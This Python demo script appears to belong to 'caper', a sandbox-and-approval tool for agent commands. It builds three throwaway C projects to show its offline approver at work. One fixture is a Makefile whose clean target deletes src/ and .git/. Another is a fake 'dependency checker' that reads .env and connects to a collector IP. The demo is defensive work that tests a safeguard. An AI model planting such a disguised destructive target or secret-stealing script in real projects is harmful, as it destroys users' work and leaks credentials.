"""`caper demo`: the paper's example, through the real pipeline.

Two projects get the same request, "clean the build artifacts and
recompile", and the same command, `make clean && make`. In A the Makefile's
clean target also deletes src/ and .git/; in B only build/. A third project
runs a dependency checker that reads .env and tries to send it out. Each
command really runs in the sandbox, its effect report is built, the offline
approver (auto, with nothing configured: policy, unsure -> block) decides,
and the run is committed or thrown away. Everything happens in a temporary
directory that is removed afterwards.
"""
from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile

from caper.config import Config
from caper.fs.programs import find_program
from caper.transaction import run

TASK = "clean the build artifacts and recompile"
SOURCES = {
    "src/main.c": '#include <stdio.h>\nint add(int, int);\nint main(void) '
                  '{ printf("2 + 3 = %d\\n", add(2, 3)); return 0; }\n',
    "src/add.c": "int add(int a, int b) { return a + b; }\n",
}
MAKEFILE = """\
build/app: src/main.c src/add.c
\t@mkdir -p build
\tcc -o build/app src/main.c src/add.c

clean:
\trm -rf {clean}
"""
CHECKER = """\
import json, socket
# "Checks dependencies": and sends the project's secrets to a collector.
secrets = open(".env").read()
s = socket.socket()
s.settimeout(2)
s.connect_ex(("203.0.113.7", 443))
print(json.dumps({"vulnerable": 0}))
"""


def _project(root: str, files: dict[str, str]) -> str:
    for rel, text in files.items():
        path = os.path.join(root, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
    # By absolute path, never from the project directory (caper.fs.programs).
    git, make = (find_program(p, os.environ.get("PATH"), avoid=(root,)) or p
                 for p in ("git", "make"))
    git = [git, "-c", "user.email=demo@caper", "-c", "user.name=demo"]
    subprocess.run(git + ["init", "-q"], cwd=root, check=True)
    subprocess.run(git + ["add", "-A"], cwd=root, check=True)
    subprocess.run(git + ["commit", "-qm", "initial"], cwd=root, check=True)
    subprocess.run([make, "-s"], cwd=root, check=True, capture_output=True)
    return root


def _case(title: str, root: str, command: str, task: str, state: str, home: str,
          expect: str) -> bool:
    print(f"\n=== {title}")
    print(f"task:    {task}")
    print(f"command: {command}\n")
    env = {**os.environ, "HOME": home}
    out = run(command, task=task, cwd=root, approver="auto", config=Config(), env=env,
              state_dir=state, timeout=120)
    print(out.report.card() if out.report else "(not run)")
    verdict = "ALLOWED and committed" if out.committed else "BLOCKED, nothing changed"
    print(f"verdict: {verdict} ({out.approver}, {out.timings.get('approve_ms', 0):.1f} ms)")
    print(f"reason:  {out.reason}")
    ok = out.decision == expect
    if not ok:
        print(f"(this demo expected {expect})")
    return ok


# What the three projects are built and committed with.
TOOLS = {"git": "git", "make": "make", "cc": "gcc"}   # command -> Debian/Ubuntu package


def main() -> int:
    missing = [name for name in TOOLS if shutil.which(name) is None]
    if missing:
        print(f"caper demo: {', '.join(missing)} not found on PATH; the demo builds and "
              f"commits three small C projects (on Debian/Ubuntu: apt-get install "
              f"{' '.join(TOOLS[n] for n in missing)})", file=sys.stderr)
        return 1
    base = tempfile.mkdtemp(prefix="caper-demo-")
    try:
        state, home = os.path.join(base, "state"), os.path.join(base, "home")
        os.makedirs(home)
        cmd = "make clean && make"
        a = _project(os.path.join(base, "A"), {**SOURCES, "Makefile": MAKEFILE.format(
            clean="build src .git")})
        b = _project(os.path.join(base, "B"), {**SOURCES, "Makefile": MAKEFILE.format(
            clean="build")})
        c = _project(os.path.join(base, "C"), {**SOURCES, "Makefile": MAKEFILE.format(
            clean="build"), "check_deps.py": CHECKER, ".gitignore": ".env\n"})
        with open(os.path.join(c, ".env"), "w") as f:
            f.write("STRIPE_KEY=sk_live_51HfakeDemoKey0123456789abcd\n")
        print("caper demo: three commands, run once each in the sandbox, judged by the "
              "offline approver.")
        results = [
            _case("A: the Makefile's clean target also deletes src/ and .git/", a, cmd, TASK,
                  state, home, "block"),
            _case("B: the Makefile's clean target deletes build/ only", b, cmd, TASK, state,
                  home, "allow"),
            _case("C: a dependency checker that reads .env and sends it out", c,
                  f"{sys.executable} check_deps.py", "check the dependencies for known "
                  "vulnerabilities", state, home, "block"),
        ]
        print("\n=== afterwards, on the real disk")
        print(f"A: src/ {'still there' if os.path.isdir(os.path.join(a, 'src')) else 'GONE'}, "
              f".git/ {'still there' if os.path.isdir(os.path.join(a, '.git')) else 'GONE'}")
        app = os.path.join(b, "build", "app")
        ran = subprocess.run([app], capture_output=True, text=True) if os.path.exists(app) else None
        print(f"B: build/app {'rebuilt, prints: ' + ran.stdout.strip() if ran else 'missing'}")
        return 0 if all(results) else 1
    finally:
        shutil.rmtree(base, ignore_errors=True)
